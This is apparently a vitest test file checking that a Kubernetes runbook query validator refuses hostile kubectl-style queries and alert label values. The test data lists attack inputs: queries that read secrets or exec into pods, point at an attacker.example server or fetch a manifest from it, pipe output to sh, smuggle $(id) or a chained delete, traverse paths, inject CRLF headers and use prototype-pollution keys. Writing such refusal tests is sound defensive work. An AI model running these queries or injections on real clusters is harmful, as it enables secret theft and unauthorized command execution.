// Hostile queries and hostile labels: none reads another object than the runbook's author and the alert mean.

import { describe, expect, it } from "vitest";
import { k8s } from "../../../../lib/checks/k8s/k8s.ts";

const SCOPE = { match: null, now: new Date(0) };

describe("a hostile query", () => {
  it.each([
    "get secrets -n <namespace>",
    "get secret <pod> -n <namespace>",
    "get Secret -n <namespace>",
    "get SECRETS -n <namespace>",
    "get secrets. -n <namespace>",
    "get secrets.v1. -n <namespace>",
    "get secrets.core -n <namespace>",
    "get pods/exec -n <namespace>",
    "get pods/<pod>/log -n <namespace>",
    "get pod <pod>/log -n <namespace>",
    "get pod <pod> -n <namespace>/../kube-system",
    "get nodes <node>/proxy/pods",
    "get services/proxy -n <namespace>",
    "get pods,secrets -n <namespace>",
    "get all -n <namespace>",
    "get --raw /api/v1/namespaces/shop/secrets",
    "get pods -n <namespace> --raw=/api/v1/secrets",
    "get pods -n <namespace> --server=https://attacker.example",
    "get pods -n <namespace> --token=x",
    "get pods -n <namespace> --as=system:admin",
    "get pods -n <namespace> --watch",
    "get pods -n <namespace> -o go-template={{.}}",
    "get -f https://attacker.example/pod.yaml",
    "get pods -n <namespace> | sh",
    "get pods -n <namespace>; kubectl delete pod <pod>",
    "get pods -n $(id)",
    "get pods -n `id`",
    "get pods -n <namespace> && get secrets",
    "delete pod <pod> -n <namespace>",
    "exec <pod> -n <namespace> -- id",
    "kubectl kubectl get pods -n <namespace>",
    "get ../../secrets -n <namespace>",
    "get pods%2fexec -n <namespace>",
    "get pods.%2e%2e -n <namespace>",
    "get pods?watch=true -n <namespace>",
    "get x.y/../../../api/v1/secrets -n <namespace>",
    "get pods -n <namespace> -l app=<app>&continue=x",
    "get pods -n <namespace> -l app=a%2Cb",
    "get pods -n <namespace> --field-selector metadata.name=a\\,b",
    "get pods -n <namespace> -l __proto__=x",
    "get pods --constructor=x -n <namespace>",
    "get pods --__proto__ x -n <namespace>",
    "get <kind> -n <namespace>",
    "get pods -n <namespace>\u2028get secrets",
    "get pods -n <namespace>\u0000",
    "get pods -n <namespace>\nget secrets -n <namespace>",
    `get pods -n ${"a".repeat(2_000)}`,
    `get pods -n <namespace> -l ${"a=b,".repeat(5_000)}a=b`,
  ])("is refused: %j", (query) => {
    expect(k8s.validate(query)).toHaveLength(1);
    const labels = { namespace: "shop", pod: "a", app: "a", node: "n", kind: "secrets" };
    expect(k8s.prepare(query, { ...SCOPE, labels })).toMatchObject({ ok: false });
  });
});

describe("a hostile label", () => {
  const VALUES = [
    "x/../../secrets",
    "../secrets",
    "..",
    ".",
    "x/log",
    "%2f",
    "x%2Flog",
    "x?watch=true",
    "x#",
    "x&fieldSelector=",
    ",metadata.name!=x",
    "x,type=Normal",
    "x=y",
    "x\\,y",
    "a b",
    " -A",
    "-A",
    "--all-namespaces",
    "<pod>",
    "x\nget secrets",
    "x\u0000",
    "x\r\nHost: attacker.example",
    '"} or vector(1)',
    "$(id)",
    "`id`",
    "раоd",
    "x\u200b",
    "__proto__",
    "*",
    "x".repeat(254),
  ];
  const QUERIES = [
    "get pod <label> -n shop",
    "get pods -n <label>",
    "get nodes <label>",
    "get pods -n shop -l app=<label>",
    "get events -n shop --field-selector involvedObject.name=<label>",
  ];

  it.each(VALUES)("is refused in each place: %j", (label) => {
    const labels = { label };
    const accepted = QUERIES.filter((query) => k8s.prepare(query, { ...SCOPE, labels }).ok);
    expect(accepted).toEqual([]);
  });

  it.each(["constructor", "toString", "__proto__", "hasOwnProperty"])(
    "named %s is missing unless the alert has it",
    (name) => {
      const prepared = k8s.prepare(`get pod <${name}> -n shop`, { ...SCOPE, labels: {} });
      expect(prepared).toEqual({ ok: false, reason: `The alert has no label "${name}".` });
    },
  );

  it("is not shown in the reason", () => {
    const prepared = k8s.prepare("get pod <label> -n shop", { ...SCOPE, labels: { label: "planted/../text" } });
    expect(JSON.stringify(prepared)).not.toContain("planted");
  });
});
